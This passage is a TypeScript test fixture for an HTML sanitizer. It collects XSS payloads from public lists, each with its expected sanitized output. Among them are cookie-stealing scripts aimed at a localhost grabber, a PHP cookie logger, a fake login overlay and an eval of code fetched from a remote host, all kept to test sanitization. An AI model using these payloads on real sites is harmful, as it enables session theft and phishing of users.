/**
 * HTML that tries to run code, from public lists of such attacks (licences next to this file), and what the server
 * keeps of it. The server's tests expect `cleaned` from the cleaner; the browser's tests check that none of it runs.
 */
export const HTML_ATTACKS: readonly { html: string; cleaned: string }[] = [
  // cure53/DOMPurify
  {
    html: '<div aria-labelledby="msg--title" role="dialog" class="msg"><button class="modal-close" aria-label="close" type="button"><i class="icon-close"></i>some button</button></div>',
    cleaned: '<div aria-labelledby="msg--title" role="dialog" class="msg"><i class="icon-close"></i>some button</div>',
  },
  {
    html: '<svg><defs><filter id="f1"><feGaussianBlur in="SourceGraphic" stdDeviation="15" /></filter></defs><rect width="90" height="90" stroke="green" stroke-width="3" fill="yellow" filter="url(#f1)" /></svg>',
    cleaned: '',
  },
  { html: '<svg><text text-orientation="upright">y</text></svg>', cleaned: 'y' },
  { html: '<svg><circle vector-effect="non-scaling-stroke" cx="0" cy="0" r="30"/></svg>', cleaned: '' },
  {
    html: '<img src="data:,123"><audio src="data:,456"></audio><video src="data:,789"></video><source src="data:,012"><div src="data:,345">',
    cleaned: '<audio></audio><video></video><source><div></div>',
  },
  { html: '<img src=x name=cookie>', cleaned: '<img src="x">' },
  { html: "123<a href=' javascript:alert(1)'>I am a dolphin too!</a>", cleaned: '123<a>I am a dolphin too!</a>' },
  { html: '<img src=data:image/jpeg,ab798ewqxbaudbuoibeqbla>', cleaned: '' },
  { html: "<img src='javascript:while(1){}'>", cleaned: '' },
  { html: '<img src=x name=getElementById>', cleaned: '<img src="x">' },
  {
    html: '<div onclick=alert(0)><form onsubmit=alert(1)><input onfocus=alert(2) name=parentNode>123</form></div>',
    cleaned: '<div>123</div>',
  },
  { html: '<form onsubmit=alert(1)><input onfocus=alert(2) name=nodeType>123</form>', cleaned: '123' },
  { html: '<form onsubmit=alert(1)><input onfocus=alert(2) name=attributes>123</form>', cleaned: '123' },
  { html: '<form onsubmit=alert(1)><input onfocus=alert(2) name=removeAttributeNode>123</form>', cleaned: '123' },
  { html: '<style>*{color: red}</style>', cleaned: '' },
  {
    html: '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>',
    cleaned: '&lt;img onerror="alert(1);//" src=x&gt;',
  },
  { html: '<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->', cleaned: '' },
  {
    html: '<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>',
    cleaned: '<b><img src="x">"&gt;</b>',
  },
  { html: '<a href="\u0001java\u0003script:alert(1)">@shafigullin<a>', cleaned: '<a>@shafigullin</a><a></a>' },
  { html: '<option><iframe></select><b><script>alert(1)</script>', cleaned: '' },
  { html: '<b><style><style/><img src=x onerror=alert(1)>', cleaned: '<b></b>' },
  {
    html: '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block">\n  <mrow>\n    <menclose notation="box"><mi>a</mi></menclose><mo>,</mo>\n    <menclose notation="box"><mi mathcolor="#FF0000">a</mi></menclose><mo>,</mo>\n    <menclose notation="box" mathcolor="#FF0000"><mi>a</mi></menclose><mo>,</mo>\n    <menclose notation="box" mathbackground="#80FF80"><mi mathcolor="#FF0000">a</mi></menclose><mo>,</mo>\n    <menclose notation="box" mathcolor="#FF0000" mathbackground="#80FF80"><mi>a</mi></menclose><mo>,</mo>\n    <menclose notation="box"><mi mathbackground="#80FF80">a</mi></menclose>\n  </mrow>\n</math>',
    cleaned: '\n  \n    a,\n    a,\n    a,\n    a,\n    a,\n    a\n  \n',
  },
  { html: '<image name=activeElement><svg onload=alert(1)>', cleaned: '' },
  {
    html: '<div onmouseout="javascript:alert(/superevr/)" x=yscript: n>@superevr</div>',
    cleaned: '<div>@superevr</div>',
  },
  {
    html: '<a href="javascript:123" onclick="alert(1)">CLICK ME (bypass by @shafigullin)</a>',
    cleaned: '<a>CLICK ME (bypass by @shafigullin)</a>',
  },
  { html: '<div wow=removeme onmouseover=alert(1)>text', cleaned: '<div>text</div>' },
  { html: '<isindex src="javascript:" onmouseover="alert(1)" label="bypass by @giutro" />', cleaned: '' },
  {
    html: '<div id="1"><form id="foobar"></form><button form="foobar" formaction="javascript:alert(1)">X</button>//["\'`-->]]>]</div>',
    cleaned: '<div id="1">X//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="3"><meta charset="x-imap4-modified-utf7">&<script&S1&TS&1>alert&A7&(1)&R&UA;&&<&A9&11/script&X&>//["\'`-->]]>]</div>',
    cleaned:
      '<div id="3">&amp;alert&amp;A7&amp;(1)&amp;R&amp;UA;&amp;&amp;&lt;&amp;A9&amp;11/script&amp;X&amp;&gt;//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: "<div id=\"5\"><script>crypto.generateCRMFRequest('CN=0',0,0,null,'alert(5)',384,null,'rsa-dual-use')</script>//[\"'`-->]]>]</div>",
    cleaned: '<div id="5">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="7"><input onfocus=alert(7) autofocus>//["\'`-->]]>]</div>',
    cleaned: '<div id="7">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="9"><a style="-o-link:\'javascript:alert(9)\';-o-link-source:current">X</a>//["\'`-->]]>]</div>\n\n<div id="10"><video poster=javascript:alert(10)//></video>//["\'`-->]]>]</div>',
    cleaned: '<div id="9"><a>X</a>//["\'`--&gt;]]&gt;]</div>\n\n<div id="10"><video></video>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="12"><body onscroll=alert(12)><br><br><br><br><br><br>...<br><br><br><br><input autofocus>//["\'`-->]]>]</div>',
    cleaned: '<div id="12"><br><br><br><br><br><br>...<br><br><br><br>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="14"><input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!>//["\'`-->]]>]</div>',
    cleaned: '<div id="14">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="16">X<x style=`behavior:url(#default#time2)` onbegin=`alert(16)` >//["\'`-->]]>]</div>',
    cleaned: '<div id="16">X//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="18"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>//["\'`-->]]>]</div>',
    cleaned: '<div id="18">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="20"><script>ReferenceError.prototype.__defineGetter__(\'name\', function(){alert(20)}),x</script>//["\'`-->]]>]</div>',
    cleaned: '<div id="20">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="22"><input onblur=focus() autofocus><input>//["\'`-->]]>]</div>',
    cleaned: '<div id="22">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="24">1<set/xmlns=`urn:schemas-microsoft-com:time` style=`behAvior:url(#default#time2)` attributename=`innerhtml` to=`<img/src="x"onerror=alert(24)>`>//["\'`-->]]>]</div>',
    cleaned: '<div id="24">1`&gt;//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="26">+ADw-html+AD4APA-body+AD4APA-div+AD4-top secret+ADw-/div+AD4APA-/body+AD4APA-/html+AD4-.toXMLString().match(/.*/m),alert(RegExp.input);//["\'`-->]]>]</div>',
    cleaned:
      '<div id="26">+ADw-html+AD4APA-body+AD4APA-div+AD4-top secret+ADw-/div+AD4APA-/body+AD4APA-/html+AD4-.toXMLString().match(/.*/m),alert(RegExp.input);//["\'`-->]]>]</div>',
  },
  {
    html: '<div id="29"><link rel=stylesheet href=data:,*%7bx:expression(alert(29))%7d//["\'`-->]]>]</div>',
    cleaned: '<div id="29">]]&gt;]</div>',
  },
  {
    html: '<div id="31"><frameset onload=alert(31)>//["\'`-->]]>]</div>',
    cleaned: '<div id="31">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="33"><a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="alert(33);">XXX</a></a><a href="javascript:alert(2)">XXX</a>//["\'`-->]]>]</div>',
    cleaned: '<div id="33"><a></a><a>XXX</a><a>XXX</a>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="35">1<a href=#><line xmlns=urn:schemas-microsoft-com:vml style=behavior:url(#default#vml);position:absolute href=javascript:alert(35) strokecolor=white strokeweight=1000px from=0 to=1000 /></a>//["\'`-->]]>]</div>',
    cleaned: '<div id="35">1<a href="#"></a>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="37"><!--<img src="--><img src=x onerror=alert(37)//">//["\'`-->]]>]</div>',
    cleaned: '<div id="37"><img src="x">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<![><img src="]><img src=x onerror=alert(39)//">',
    cleaned: '<img src="]&gt;&lt;img src=x onerror=alert(39)//">',
  },
  {
    html: '<div id="40"><style><img src="</style><img src=x onerror=alert(40)//">//["\'`-->]]>]</div>',
    cleaned: '<div id="40"><img src="x">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=alert(41)></div>//["\'`-->]]>]</div>',
    cleaned: '<div></div>//["\'`--&gt;]]&gt;]',
  },
  { html: '<div id="43"><?xml version="1.0" standalone="no"?>', cleaned: '<div id="43"></div>' },
  {
    html: '<div id="44"><style>*[{}@import\'test.css?]{color: green;}</style>X//["\'`-->]]>]</div>',
    cleaned: '<div id="44">X//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="46"><div style="font-family:foo}color=red;">XXX</div>//["\'`-->]]>]</div>',
    cleaned: '<div id="46"><div>XXX</div>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="48"><SCRIPT FOR=document EVENT=onreadystatechange>alert(48)</SCRIPT>//["\'`-->]]>]</div>',
    cleaned: '<div id="48">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="50"><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>//["\'`-->]]>]</div>',
    cleaned: '<div id="50">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="52"><x style="behavior:url(test.sct)">//["\'`-->]]>]</div><div id="53"><xml id="xss" src="test.htc"></xml>',
    cleaned: '<div id="52">//["\'`--&gt;]]&gt;]</div><div id="53"></div>',
  },
  {
    html: "<div id=\"54\"><script>[{'a':Object.prototype.__defineSetter__('b',function(){alert(arguments[0])}),'b':['secret']}]</script>//[\"'`-->]]>]</div>",
    cleaned: '<div id="54">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="56"><video onerror="alert(56)"><source></source></video>//["\'`-->]]>]</div>',
    cleaned: '<div id="56"><video><source></video>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="58"><b><script<b></b><alert(58)</script </b></b>//["\'`-->]]>]</div>',
    cleaned: '<div id="58"><b></b>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="60"><div style="[a]color[b]:[c]red">XXX</div>//["\'`-->]]>]</div>',
    cleaned: '<div id="60"><div>XXX</div>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="63"><embed src="javascript:alert(63)"></embed> // O10.10↓, OM10.0↓, GC6↓, FF\n<img src="javascript:alert(2)">\n<image src="javascript:alert(2)"> // IE6, O10.10↓, OM10.0↓\n<script src="javascript:alert(3)"></script> // IE6, O11.01↓, OM10.1↓//["\'`-->]]>]</div>',
    cleaned:
      '<div id="63"> // O10.10↓, OM10.0↓, GC6↓, FF\n\n // IE6, O10.10↓, OM10.0↓\n // IE6, O11.01↓, OM10.1↓//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="65"><svg onload="javascript:alert(65)" xmlns="http://www.w3.org/2000/svg"></svg>//["\'`-->]]>]</div><div id="66"><?xml version="1.0"?>',
    cleaned: '<div id="65">//["\'`--&gt;]]&gt;]</div><div id="66"></div>',
  },
  {
    html: '<div id="68"><doc xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:html="http://www.w3.org/1999/xhtml">\n    <html:style /><x xlink:href="javascript:alert(68)" xlink:type="simple">XXX</x>\n</doc>//["\'`-->]]>]</div>',
    cleaned: '<div id="68">\n    XXX\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="70"><div style=width:1px;filter:glow onfilterchange=alert(70)>x</div>//["\'`-->]]>]</div>',
    cleaned: '<div id="70"><div style="width:1px">x</div>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="72"><form><button formaction="javascript:alert(72)">X</button>//["\'`-->]]>]</div>',
    cleaned: '<div id="72">X//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="74"><a href="javascript:alert(74)"><event-source src="data:application/x-dom-event-stream,Event:click%0Adata:XXX%0A%0A" /></a>//["\'`-->]]>]</div>',
    cleaned: '<div id="74"><a></a>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="76"><?xml-stylesheet type="text/css"?><!DOCTYPE x SYSTEM "test.dtd"><x>&x;</x>//["\'`-->]]>]</div>',
    cleaned: '<div id="76">&amp;x;//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="78"><?xml-stylesheet type="text/xsl" href="#"?><img xmlns="x-schema:test.xdr"/>//["\'`-->]]>]</div>',
    cleaned: '<div id="78">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="80"><style>*{x:ｅｘｐｒｅｓｓｉｏｎ(alert(80))}</style>//["\'`-->]]>]</div>',
    cleaned: '<div id="80">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="82"><?xml-stylesheet type="text/css" href="data:,*%7bx:expression(write(2));%7d"?>//["\'`-->]]>]</div><div id="83"><x:template xmlns:x="http://www.wapforum.org/2001/wml"  x:ontimer="$(x:unesc)j$(y:escape)a$(z:noecs)v$(x)a$(y)s$(z)cript$x:alert(83)"><x:timer value="1"/></x:template>//["\'`-->]]>]</div>',
    cleaned: '<div id="82">//["\'`--&gt;]]&gt;]</div><div id="83">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="85"><x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="test.evt#x"/>//["\'`-->]]>]</div>',
    cleaned: '<div id="85">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="89"><svg xmlns="http://www.w3.org/2000/svg">\n<set attributeName="onmouseover" to="alert(89)"/>\n<animate attributeName="onunload" to="alert(89)"/>\n</svg>//["\'`-->]]>]</div>',
    cleaned: '<div id="89">\n\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="91">[A]\n<? foo="><script>alert(91)</script>">\n<! foo="><script>alert(91)</script>">\n</ foo="><script>alert(91)</script>">\n[B]\n<? foo="><x foo=\'?><script>alert(91)</script>\'>">\n[C]\n<! foo="[[[x]]"><x foo="]foo><script>alert(91)</script>">\n[D]\n<% foo><x foo="%><script>alert(91)</script>">//["\'`-->]]>]</div>',
    cleaned: '<div id="91">[A]\n"&gt;\n"&gt;\n"&gt;\n[B]\n"&gt;\n[C]\n\n[D]\n&lt;% foo&gt;//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="93"><div style="list-style:url(http://foo.f)\u0010url(javascript:alert(93));">X</div>//["\'`-->]]>]</div>',
    cleaned: '<div id="93"><div>X</div>//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="95"><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n<feImage>\n<set attributeName="xlink:href" to="data:image/svg+xml;charset=utf-8;base64,\nPHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ%2BYWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4NCg%3D%3D"/>\n</feImage>\n</svg>//["\'`-->]]>]</div>',
    cleaned: '<div id="95">\n\n\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: "<div id=\"97\"><!-- IE 5-9 -->\n<div id=d><x xmlns=\"><iframe onload=alert(97)\"></div>\n<script>d.innerHTML+='';</script>\n<!-- IE 10 in IE5-9 Standards mode -->\n<div id=d><x xmlns='\"><iframe onload=alert(2)//'></div>\n<script>d.innerHTML+='';</script>//[\"'`-->]]>]</div>",
    cleaned: '<div id="97">\n<div id="d"></div>\n\n\n<div id="d"></div>\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="99">XXX<style>\n\n*{color:gre/**/en !/**/important} /* IE 6-9 Standards mode */\n\n<!--\n--><!--*{color:red}   /* all UA */\n\n*{background:url(xx //**/\red/*)} /* IE 6-7 Standards mode */\n\n</style>//["\'`-->]]>]</div>',
    cleaned: '<div id="99">XXX//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="103"><script>history.pushState(0,0,\'/i/am/somewhere_else\');</script>//["\'`-->]]>]</div><div id="104"><svg xmlns="http://www.w3.org/2000/svg" id="foo">\n<x xmlns="http://www.w3.org/2001/xml-events" event="load" observer="foo" handler="data:image/svg+xml,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%3E%0A%3Chandler%20xml%3Aid%3D%22bar%22%20type%3D%22application%2Fecmascript%22%3E alert(104) %3C%2Fhandler%3E%0A%3C%2Fsvg%3E%0A#bar"/>\n</svg>//["\'`-->]]>]</div>',
    cleaned: '<div id="103">//["\'`--&gt;]]&gt;]</div><div id="104">\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="106"><img src onerror /" \'"= alt=alert(106)//">//["\'`-->]]>]</div>',
    cleaned: '<div id="106">//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="108"><!-- IE 5-8 standards mode -->\n<a href=http://foo.bar/#x=`y></a><img alt="`><img src=xx onerror=alert(108)></a>">\n<!-- IE 5-9 standards mode -->\n<!a foo=x=`y><img alt="`><img src=xx onerror=alert(2)//">\n<?a foo=x=`y><img alt="`><img src=xx onerror=alert(3)//">//["\'`-->]]>]</div>',
    cleaned: '<div id="108">\n<a href="http://foo.bar/#x=`y"></a>\n\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="110"><svg xmlns="http://www.w3.org/2000/svg">\n<path d="M0,0" style="marker-start:url(test4.svg#a)"/>\n</svg>//["\'`-->]]>]</div>',
    cleaned: '<div id="110">\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="112"><div style="font-family:foo{bar;background:url(http://foo.f/oo};color:red/*/foo.jpg);">X</div>//["\'`-->]]>]</div><div id="113"><div id="x">XXX</div>\n<style>\n\n#x{font-family:foo[bar;color:green;}\n\n#y];color:red;{}\n\n</style>//["\'`-->]]>]</div>',
    cleaned:
      '<div id="112"><div>X</div>//["\'`--&gt;]]&gt;]</div><div id="113"><div id="x">XXX</div>\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="116"><div id="x">x</div>\n<xml:namespace prefix="t">\n<import namespace="t" implementation="#default#time2">\n<t:set attributeName="innerHTML" targetElement="x" to="<img\u000bsrc=x\u000bonerror\u000b=alert(116)>">//["\'`-->]]>]</div>',
    cleaned: '<div id="116"><div id="x">x</div>\n\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="118"><div draggable="true" ondragstart="event.dataTransfer.setData(\'text/plain\',\'malicious code\');">\n    <h1>Drop me</h1>\n</div>\n<iframe src="http://www.example.org/dropHere.html"></iframe>//["\'`-->]]>]</div>',
    cleaned: '<div id="118"><div>\n    <h1>Drop me</h1>\n</div>\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<textarea type="text" cols="50" rows="10"></textarea>//["\'`-->]]>]</div>',
    cleaned: '//["\'`--&gt;]]&gt;]',
  },
  {
    html: '<div id="121"><html xmlns="http://www.w3.org/1999/xhtml"\nxmlns:svg="http://www.w3.org/2000/svg">\n<body style="background:gray">\n<iframe src="http://example.com/" style="width:800px; height:350px; border:none; mask: url(#maskForClickjacking);"/>\n<svg:svg>\n<svg:mask id="maskForClickjacking" maskUnits="objectBoundingBox" maskContentUnits="objectBoundingBox">\n    <svg:rect x="0.0" y="0.0" width="0.373" height="0.3" fill="white"/>\n    <svg:circle cx="0.45" cy="0.7" r="0.075" fill="white"/>\n</svg:mask>\n</svg:svg>\n</body>\n</html>//["\'`-->]]>]</div>',
    cleaned: '<div id="121">\n\n</div>',
  },
  {
    html: '<div id="123"><span class=foo>Some text</span>\n<a class=bar href="http://www.example.org">www.example.org</a>\n<script src="http://code.jquery.com/jquery-1.4.4.js"></script>\n<script>\n$("span.foo").click(function() {\nalert(\'foo\');\n$("a.bar").click();\n});\n$("a.bar").click(function() {\nalert(\'bar\');\nlocation="http://html5sec.org";\n});\n</script>//["\'`-->]]>]</div>',
    cleaned:
      '<div id="123"><span class="foo">Some text</span>\n<a class="bar" href="http://www.example.org">www.example.org</a>\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="125"><?xml version="1.0"?><?xml-stylesheet type="text/xml" href="#stylesheet"?><!DOCTYPE doc [<!ATTLIST xsl:stylesheet  id    ID    #REQUIRED>]><svg xmlns="http://www.w3.org/2000/svg">    <xsl:stylesheet id="stylesheet" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">        <xsl:template match="/">            <iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(125)"></iframe>        </xsl:template>    </xsl:stylesheet>    <circle fill="red" r="40"></circle></svg>//["\'`-->]]>]</div>',
    cleaned: '<div id="125">]&gt;                                        //["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="127"><svg xmlns="http://www.w3.org/2000/svg" id="x">\n<listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer="x"/>\n<handler id="y">alert(127)</handler>\n</svg>//["\'`-->]]>]</div>',
    cleaned: '<div id="127">\n\nalert(127)\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="129"><svg><image style=\'filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.alert(129)</script></svg>")\'>\n<!--\nSame effect with\n<image filter=\'...\'>\n-->\n</svg>//["\'`-->]]>]</div>',
    cleaned: '<div id="129">\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="132"><!doctype html>\n<form>\n<label>type a,b,c,d - watch the network tab/traffic (JS is off, latest NoScript)</label>\n<br>\n<input name="secret" type="password">\n</form>\n<!-- injection --><svg height="50px">\n<image xmlns:xlink="http://www.w3.org/1999/xlink">\n<set attributeName="xlink:href" begin="accessKey(a)" to="//example.com/?a" />\n<set attributeName="xlink:href" begin="accessKey(b)" to="//example.com/?b" />\n<set attributeName="xlink:href" begin="accessKey(c)" to="//example.com/?c" />\n<set attributeName="xlink:href" begin="accessKey(d)" to="//example.com/?d" />\n</image>\n</svg>//["\'`-->]]>]</div>',
    cleaned:
      '<div id="132">\n\ntype a,b,c,d - watch the network tab/traffic (JS is off, latest NoScript)\n<br>\n\n\n\n\n\n\n\n\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: "<div id=\"134\"><xmp>\n<%\n</xmp>\n<img alt='%></xmp><img src=xx onerror=alert(134)//'>\n\n<script>\nx='<%'\n</script> %>/\nalert(2)\n</script>\n\nXXX\n<style>\n*['<!--']{}\n</style>\n-->{}\n*{color:red}</style>//[\"'`-->]]>]</div>",
    cleaned: '<div id="134">\n\n\n %&gt;/\nalert(2)\n\n\nXXX\n\n--&gt;{}\n*{color:red}//["\'`--&gt;]]&gt;]</div>',
  },
  {
    html: '<div id="136"><form action="x" method="post">\n<input name="username" value="admin" />\n<input name="password" type="password" value="secret" />\n<input name="injected" value="injected" dirname="password" />\n<input type="submit">\n</form>//["\'`-->]]>]</div>',
    cleaned: '<div id="136">\n\n\n\n\n//["\'`--&gt;]]&gt;]</div>',
  },
  { html: '<input name=submit>123', cleaned: '123' },
  { html: '<form><input name=hasChildNodes>', cleaned: '' },
  { html: '<div inert></div>', cleaned: '<div></div>' },
  {
    html: '<svg></p><title><a id="</title><img src=x onerror=alert()>"></textarea></svg>',
    cleaned: '<img src="x">"&gt;',
  },
  { html: '<svg></p><title><template><style></title><img src=x onerror=alert(1)>', cleaned: '<img src="x">' },
  { html: '<form><input name=namespaceURI>', cleaned: '' },
  { html: '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">', cleaned: '<p><img src="x">"&gt;</p>' },
  {
    html: '<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>',
    cleaned: '<p></p>',
  },
  { html: "<noembed><svg><b><style><b title='</style><img>'>", cleaned: '' },
  {
    html: '<math><mtext><table><mglyph><style><math href=javascript:alert(1)>CLICKME</math>',
    cleaned: '<table></table>',
  },
  {
    html: '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    cleaned: '"&gt;',
  },
  {
    html: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=\'alert(1)\'>"></style></h1>',
    cleaned: '<h1><a><h6></h6></a>"&gt;</h1>',
  },
  {
    html: 'a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>">',
    cleaned: 'a',
  },
  { html: '<b is="foo">bar</b>', cleaned: '<b>bar</b>' },
  {
    html: '<header><h1>Movie website</h1><search><form action="./search/"><label for="movie">Find a Movie</label><input type="search" id="movie" name="q" /><button type="submit">Search</button></form></search></header>',
    cleaned: '<header><h1>Movie website</h1>Find a MovieSearch</header>',
  },
  { html: '<button command="show-modal" commandfor="dialog">Show Modal</button>', cleaned: 'Show Modal' },
  { html: '<selectedcontent></selectedcontent>', cleaned: '' },
  // swisskyrepo/PayloadsAllTheThings
  { html: "<script>document.location='http://localhost/XSS/grabber.php?c='+document.cookie</script>", cleaned: '' },
  { html: '<script>new Image().src="http://localhost/cookie.php?c="+document.cookie;</script>', cleaned: '' },
  {
    html: "<?php\n$cookie = $_GET['c'];\n$fp = fopen('cookies.txt', 'a+');\nfwrite($fp, 'Cookie:' .$cookie.\"\\r\\n\");\nfclose($fp);\n?>",
    cleaned: '',
  },
  {
    html: "<script>\nhistory.replaceState(null, null, '../../../login');\ndocument.body.innerHTML = \"</br></br></br></br></br><h1>Please login to continue</h1><form>Username: <input type='text'>Password: <input type='password'></form><input value='submit' type='submit'>\"\n</script>",
    cleaned: '',
  },
  { html: '<script>debugger;</script>', cleaned: '' },
  {
    html: '<script>console.log("Test XSS from the search bar of page XYZ\\n".concat(document.domain).concat("\\n").concat(window.origin))</script>',
    cleaned: '',
  },
  { html: "<scr<script>ipt>alert('XSS')</scr<script>ipt>", cleaned: "ipt&gt;alert('XSS')ipt&gt;" },
  { html: '"><script>alert(String.fromCharCode(88,83,83))</script>', cleaned: '"&gt;' },
  { html: "<script>eval('\\x61lert(\\'33\\')')</script>", cleaned: '' },
  { html: '<object/data="jav&#x61;sc&#x72;ipt&#x3a;al&#x65;rt&#x28;23&#x29;">', cleaned: '' },
  { html: "<img src=x onerror=alert('XSS')//", cleaned: '' },
  { html: '<img src=x oneonerrorrror=alert(String.fromCharCode(88,83,83));>', cleaned: '<img src="x">' },
  { html: "\"><img src=x onerror=alert('XSS');>", cleaned: '"&gt;<img src="x">' },
  { html: '<><img src=1 onerror=alert(1)>', cleaned: '&lt;&gt;<img src="1">' },
  { html: '<svg onload=alert(1)//', cleaned: '' },
  { html: '<svg id=alert(1) onload=eval(id)>', cleaned: '' },
  { html: '"><svg/onload=alert(/XSS/)', cleaned: '"&gt;' },
  { html: "<svg><script>alert('33')", cleaned: '' },
  { html: '<div onpointerover="alert(45)">MOVE HERE</div>', cleaned: '<div>MOVE HERE</div>' },
  { html: '<div onpointerenter="alert(45)">MOVE HERE</div>', cleaned: '<div>MOVE HERE</div>' },
  { html: '<div onpointermove="alert(45)">MOVE HERE</div>', cleaned: '<div>MOVE HERE</div>' },
  { html: '<div onpointerup="alert(45)">MOVE HERE</div>', cleaned: '<div>MOVE HERE</div>' },
  { html: '<input autofocus onfocus=alert(1)>', cleaned: '' },
  { html: '<textarea autofocus onfocus=alert(1)>', cleaned: '' },
  { html: '<video/poster/onerror=alert(1)>', cleaned: '<video poster=""></video>' },
  { html: '<video src=_ onloadstart="alert(1)">', cleaned: '<video src="_"></video>' },
  { html: '<audio src onloadstart=alert(1)>', cleaned: '<audio src=""></audio>' },
  { html: '<meter value=2 min=0 max=10 onmouseover=alert(1)>2 out of 10</meter>', cleaned: '2 out of 10' },
  {
    html: '<body ontouchend=alert(1)>   // Triggers when a finger is removed from touch screen',
    cleaned: '   // Triggers when a finger is removed from touch screen',
  },
  {
    html: '<svg/onload=\'fetch("//host/a").then(r=>r.text().then(t=>eval(t)))\'>\n<script src=14.rs>\n// you can also specify an arbitrary payload with 14.rs/#payload\ne.g: 14.rs/#alert(document.domain)',
    cleaned: '\n',
  },
  {
    html: '<input type="hidden" oncontentvisibilityautostatechange="alert(1)"  style="content-visibility:auto" >',
    cleaned: '',
  },
  { html: 'javascript:prompt(1)', cleaned: 'javascript:prompt(1)' },
  { html: 'javascript://%0Aalert(1)', cleaned: 'javascript://%0Aalert(1)' },
  {
    html: 'data:text/html,<script>alert(0)</script>\ndata:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+\n<script src="data:;base64,YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=="></script>',
    cleaned: 'data:text/html,\ndata:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+\n',
  },
  {
